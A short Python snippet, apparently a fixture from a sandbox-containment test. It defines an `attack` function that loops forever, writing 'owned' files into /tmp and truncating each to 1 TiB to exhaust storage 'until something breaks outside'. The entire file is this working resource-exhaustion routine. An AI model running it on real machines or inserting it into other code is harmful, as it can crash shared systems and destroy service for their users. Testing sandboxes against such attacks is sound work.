"""Fills its files in memory until something breaks outside."""
import os


def attack(canary):
    number = 0
    while True:
        with open("/tmp/%d" % number, "wb") as file:
            file.write(b"owned" * 1_000_000)
        os.truncate("/tmp/%d" % number, 1 << 40)
        number += 1
    return "escaped"
